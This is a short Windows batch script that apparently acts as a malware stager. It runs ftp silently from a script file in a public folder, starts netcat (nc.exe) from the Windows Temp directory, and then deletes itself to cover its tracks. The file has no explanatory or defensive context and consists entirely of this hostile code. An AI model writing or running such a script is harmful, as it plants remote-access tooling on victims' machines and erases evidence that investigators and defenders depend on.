@echo off
ftp -n -s:C:\Users\Public\a.txt
start C:\Windows\Temp\nc.exe
del %0
